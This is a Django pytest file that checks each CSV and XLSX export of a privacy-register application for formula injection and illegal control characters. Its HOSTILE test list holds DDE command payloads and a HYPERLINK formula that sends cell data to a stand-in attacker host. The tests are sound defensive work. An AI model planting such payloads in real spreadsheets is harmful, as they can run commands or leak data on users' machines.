"""Every CSV and XLSX export of the project, with hostile stored values (issue 9, section 4).

``EXPORTS`` lists each spreadsheet export by URL name; ``test_every_spreadsheet_export_is_listed``
finds them in the URL configuration (by name, route and the view's source), so a new export that
is not listed here fails the suite. Each export is then fetched with values that a spreadsheet
would run as a formula, and with control characters that XLSX cannot hold.
"""

from __future__ import annotations

import csv
import inspect
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from privacyregie.core.roles import Role
from privacyregie.core.tests.factories import OrganisationFactory, UserFactory

VALID_BSN = "111222333"
HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://aanvaller.example/?d="&A1;"Klik hier")',
    "+31-6-12345678+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\uff1d1+1",
    "waarde met \x01 stuurteken \x1f",
]
FORMULA_START = tuple("=+-@\uff1d\uff0b\uff0d\uff20")
ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")

# url name -> (url kwargs, query, format), one line per file that the project offers as CSV or XLSX
EXPORTS = {
    "register:export[csv]": ("register:export", {}, {"formaat": "csv"}, "csv"),
    "register:export[xlsx]": ("register:export", {}, {"formaat": "xlsx"}, "xlsx"),
    "register:export[verwerker-csv]": ("register:export", {}, {"formaat": "csv", "register": "verwerker"}, "csv"),
    "register:export[verwerker-xlsx]": ("register:export", {}, {"formaat": "xlsx", "register": "verwerker"}, "xlsx"),
    "register:import_template": ("register:import_template", {}, {}, "xlsx"),
    "register:import_template_csv": ("register:import_template_csv", {}, {}, "csv"),
    "incidents:register_export[csv]": ("incidents:register_export", {"fmt": "csv"}, {}, "csv"),
    "incidents:register_export[xlsx]": ("incidents:register_export", {"fmt": "xlsx"}, {}, "xlsx"),
    "kernel:subject[csv]": ("kernel:subject", {}, {"bsn": VALID_BSN, "formaat": "csv"}, "csv"),
}
# Import templates: headings and an example row, no stored values.
TEMPLATES = {"register:import_template", "register:import_template_csv"}
# URLs that look like an export but do not produce a spreadsheet.
NOT_SPREADSHEETS = {"compliance:framework_export",  # YAML library file
                    "hub:export"}  # OTLP JSON of the Logboek dataverwerkingen standard


def _patterns(resolver, namespace=None, prefix=""):
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            inner = ":".join(n for n in (namespace, entry.namespace) if n) or None
            yield from _patterns(entry, inner, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern) and entry.name:
            yield ":".join(n for n in (namespace, entry.name) if n), prefix + str(entry.pattern), entry.callback


def _source(callback) -> str:
    try:
        return inspect.getsource(inspect.unwrap(callback))
    except (OSError, TypeError):
        return ""


def test_every_spreadsheet_export_is_listed():
    found = set()
    for name, route, callback in _patterns(get_resolver()):
        if name.startswith(("admin:", "api:")):
            continue
        if re.search(r"export|\.csv|\.xlsx|sjabloon", f"{name} {route}", re.I) or re.search(
                r"[\"'](csv|xlsx)[\"']", _source(callback)):
            found.add(name)
    listed = {spec[0] for spec in EXPORTS.values()}
    assert found - NOT_SPREADSHEETS == listed


def test_no_code_outside_core_exports_writes_csv_or_xlsx():
    root = Path(__file__).resolve().parents[1] / "privacyregie"
    writers = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(|content_type=[\"']text/csv")
    offenders = [str(path.relative_to(root)) for path in root.rglob("*.py")
                 if "tests" not in path.parts and path.name != "exports.py" and writers.search(path.read_text())]
    assert offenders == []


@pytest.fixture
def hostile_officer(db):
    """A privacy officer of an organisation whose register, breaches and log hold only hostile values."""
    from privacyregie.incidents.tests.factories import BreachFactory
    from privacyregie.kernel.services import pseudonymise_bsn
    from privacyregie.kernel.tests.factories import log_entry
    from privacyregie.register.models import ChainPartner, ProcessingController, ProcessorActivity
    from privacyregie.register.tests.factories import activity

    org = OrganisationFactory()
    for index, value in enumerate(HOSTILE):
        activity(org, name=f"{value} {index}" if index % 2 else value, controller=value, purposes=value)
        ChainPartner.objects.create(organisation=org, name=value, kind="leverancier", role="verwerker")
        controller = ProcessingController.objects.create(organisation=org, name=f"{value} {index}", address=value,
                                                         contact=value, dpo_contact=value)
        record = ProcessorActivity.objects.create(organisation=org, name=value, description=value,
                                                  security_measures=value)
        record.controllers.add(controller)
        BreachFactory(organisation=org, title=value, description=value)
        log_entry(org, key=pseudonymise_bsn(VALID_BSN), username=value, target_label=value)
    return UserFactory(organisation=org, roles=[Role.PRIVACY_OFFICER])


def _csv_cells(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


def _xlsx_cells(content: bytes) -> list:
    from openpyxl import load_workbook

    archive = zipfile.ZipFile(io.BytesIO(content))
    for part in archive.namelist():
        if part.startswith("xl/worksheets/"):
            xml = archive.read(part)
            assert b"<f>" not in xml and b"<f " not in xml, f"formula in {part}"
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _expected(value: str) -> str:
    return ILLEGAL.sub("\ufffd", value)


@pytest.mark.parametrize("key", sorted(EXPORTS))
def test_export_neutralises_formulas_and_control_characters(client, login, hostile_officer, key):
    name, kwargs, query, fmt = EXPORTS[key]
    login(hostile_officer)
    response = client.get(reverse(name, kwargs=kwargs), query)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment; filename=")
    if fmt == "csv":
        cells = _csv_cells(response.content)
        for cell in cells:
            assert not cell.lstrip(" \t\r\n").startswith(FORMULA_START) and not cell.startswith(("\t", "\r")), cell
            assert not ILLEGAL.search(cell), cell
        if name not in TEMPLATES:
            assert {"'" + _expected(v) for v in HOSTILE if v.lstrip().startswith(FORMULA_START)} <= set(cells)
            assert _expected(HOSTILE[-1]) in cells
    else:
        cells = _xlsx_cells(response.content)
        for cell in cells:
            if isinstance(cell.value, str) and cell.value.lstrip(" \t\r\n").startswith(FORMULA_START):
                assert cell.data_type == "s" and cell.quotePrefix, cell.value
            assert not (isinstance(cell.value, str) and ILLEGAL.search(cell.value)), cell.value
        if name in TEMPLATES:
            return
        values = {cell.value for cell in cells}
        # kept exactly, as text (XML itself stores a carriage return as a line feed)
        assert {_expected(v).replace("\r", "\n") for v in HOSTILE} <= values
